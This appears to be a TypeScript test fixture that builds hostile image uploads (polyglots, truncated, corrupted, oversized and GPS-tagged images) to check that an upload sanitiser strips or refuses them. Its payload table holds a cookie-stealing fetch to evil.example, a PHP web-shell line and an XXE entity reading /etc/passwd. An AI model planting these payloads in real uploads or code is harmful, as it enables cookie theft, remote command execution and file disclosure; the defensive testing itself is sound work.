import sharp, { type Sharp } from "sharp";

/**
 * One hostile upload; `accepted`: it is a sound photo under its burden and may be kept, made anew; false: it must be
 * refused; left out: either.
 */
export interface Hostile {
  readonly name: string;
  readonly bytes: Buffer;
  readonly accepted?: boolean;
}

/** What must not be found in anything that is kept. */
export const CANARY = "CANARY-7f3a";
/** A place, as EXIF writes it: degrees, minutes and seconds as fractions. */
export const PLACE = { lat: "39/1 54/1 59497/1000", lng: "116/1 23/1 49321/1000" };

const FORMATS = ["jpeg", "png", "webp"] as const;
const PAYLOADS: Readonly<Record<string, string>> = {
  html: `<!doctype html><html><script>alert("${CANARY}")</script></html>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${CANARY}')"/>`,
  xml: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${CANARY}</x>`,
  js: `/*${CANARY}*/fetch("//evil.example/"+document.cookie)`,
  php: `<?php system($_GET["${CANARY}"]); ?>`,
  pdf: `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${CANARY}"))>>>>endobj`,
  zip: `PK\u0003\u0004${CANARY}PK\u0005\u0006`,
  shell: `#!/bin/sh\necho ${CANARY}`,
};
const MAGIC: Readonly<Record<string, string>> = {
  none: "",
  jpeg: "ffd8ffe000104a46494600010100000100010000",
  png: "89504e470d0a1a0a0000000d49484452",
  gif: "474946383961",
  webp: "524946462400000057454250565038",
  bmp: "424d",
};

const picture = (side = 48) =>
  sharp({ create: { width: side, height: side, channels: 3, background: "#c83232" } });

/** More than a hundred uploads as an attacker, a broken phone or a careless tool would send them; the same every time. */
export async function hostileUploads(): Promise<Hostile[]> {
  const sound = Object.fromEntries(
    await Promise.all(FORMATS.map(async (format) => [format, await picture().toFormat(format).toBuffer()])),
  ) as Record<(typeof FORMATS)[number], Buffer>;
  const gif = await picture(8).gif().toBuffer();
  return [
    ...disguised(),
    ...FORMATS.flatMap((format) => burdened(format, sound[format])),
    ...(await Promise.all(FORMATS.map((format) => located(format)))).flat(),
    ...FORMATS.flatMap((format) => cut(format, sound[format])),
    ...FORMATS.flatMap((format) => flipped(format, sound[format])),
    ...oversized(sound, gif),
    ...(await foreign(gif)),
  ];
}

/** Active content that begins like a picture, or like itself. */
function disguised(): Hostile[] {
  return Object.entries(MAGIC).flatMap(([magic, hex]) =>
    Object.entries(PAYLOADS).map(([kind, payload]) => ({
      name: `${kind} behind ${magic}`,
      bytes: Buffer.concat([Buffer.from(hex, "hex"), Buffer.from(payload, "latin1")]),
    })),
  );
}

/** What has no meaning behind a picture, and goes with the metadata. */
const HARMLESS = ["js", "shell"];

/** A sound picture with something behind it. */
function burdened(format: string, bytes: Buffer): Hostile[] {
  return Object.entries(PAYLOADS).map(([kind, payload]) => ({
    name: `${format} with ${kind} behind it`,
    bytes: Buffer.concat([bytes, Buffer.from(payload, "latin1")]),
    accepted: HARMLESS.includes(kind),
  }));
}

/** A picture that says where and by whom it was taken, in every way the format knows. */
async function located(format: (typeof FORMATS)[number]): Promise<Hostile[]> {
  const exif = {
    IFD0: { Make: CANARY, ImageDescription: CANARY },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: PLACE.lat, GPSLongitudeRef: "E", GPSLongitude: PLACE.lng },
  };
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>39,54.99N ${CANARY}</exif:GPSLatitude></x:xmpmeta>`;
  const ways: [string, Sharp][] = [
    ["EXIF", picture().withExif(exif)],
    ["XMP", picture().withXmp(xmp)],
    ["EXIF and orientation", picture().withExif(exif).withMetadata({ orientation: 6 })],
    ["EXIF and XMP", picture().withExif(exif).withXmp(xmp)],
  ];
  return Promise.all(
    ways.map(async ([way, image]) => ({
      name: `${format} with its place in ${way}`,
      bytes: await image.toFormat(format).toBuffer(),
      accepted: true,
    })),
  );
}

const PARTS = [0.02, 0.1, 0.25, 0.4, 0.55, 0.7, 0.85, 0.95];

/** What arrives when the signal breaks off. */
function cut(format: string, bytes: Buffer): Hostile[] {
  return PARTS.map((part) => ({
    name: `${format} cut at ${part * 100} %`,
    bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
  }));
}

/** Bytes changed at places drawn from a fixed seed: sound or not, it must not come out as anything but a clean photo. */
function flipped(format: string, bytes: Buffer): Hostile[] {
  let state = 20261123;
  const draw = (below: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state % below;
  };
  return Array.from({ length: 12 }, (_, round) => {
    const changed = Buffer.from(bytes);
    for (let count = 0; count <= round; count += 1) changed[draw(changed.length)] = draw(256);
    return { name: `${format} with ${round + 1} bytes changed`, bytes: changed };
  });
}

/** Small files that claim to be huge. */
function oversized(sound: Record<"jpeg" | "png" | "webp", Buffer>, gif: Buffer): Hostile[] {
  const png = Buffer.from(sound.png);
  png.writeUInt32BE(0x7fffffff, 16);
  png.writeUInt32BE(0x7fffffff, 20);
  const jpeg = Buffer.from(sound.jpeg);
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(65500, frame + 5);
  jpeg.writeUInt16BE(65500, frame + 7);
  const animation = Buffer.from(gif);
  animation.writeUInt16LE(65535, 6);
  animation.writeUInt16LE(65535, 8);
  return [
    { name: "png of 2³¹ × 2³¹", bytes: png },
    { name: "jpeg of 65500 × 65500", bytes: jpeg },
    { name: "gif of 65535 × 65535", bytes: animation },
  ];
}

/** Formats that are not taken, what iPhones send among them. */
async function foreign(gif: Buffer): Promise<Hostile[]> {
  const box = (brand: string) =>
    Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`), gif]);
  return [
    { name: "gif", bytes: gif },
    { name: "tiff", bytes: await picture().tiff().toBuffer() },
    { name: "avif", bytes: await picture().avif().toBuffer() },
    ...["heic", "heix", "hevc", "mif1", "mp42", "qt  "].map((brand) => ({
      name: `a file of brand ${brand}`,
      bytes: box(brand),
    })),
    { name: "nothing", bytes: Buffer.alloc(0) },
    { name: "zeroes", bytes: Buffer.alloc(4096) },
  ];
}

const fractions = [PLACE.lat, PLACE.lng].map((text) => {
  const [numerator = 0, denominator = 0] = (text.split(" ").at(-1) ?? "").split("/").map(Number);
  const [big, little] = [Buffer.alloc(8), Buffer.alloc(8)];
  big.writeUInt32BE(numerator);
  big.writeUInt32BE(denominator, 4);
  little.writeUInt32LE(numerator);
  little.writeUInt32LE(denominator, 4);
  return [big, little];
});

/** What of an upload's burden is left in these bytes. */
export function traces(bytes: Uint8Array): string[] {
  const data = Buffer.from(bytes);
  const words = [
    CANARY,
    "<script",
    "<svg",
    "<html",
    "<?",
    "%PDF",
    "PK\u0003\u0004",
    "Exif",
    "GPS",
    "adobe:ns",
  ];
  const found = words.filter((word) => data.includes(Buffer.from(word, "latin1")));
  return fractions.flat().some((fraction) => data.includes(fraction)) ? [...found, "place"] : found;
}
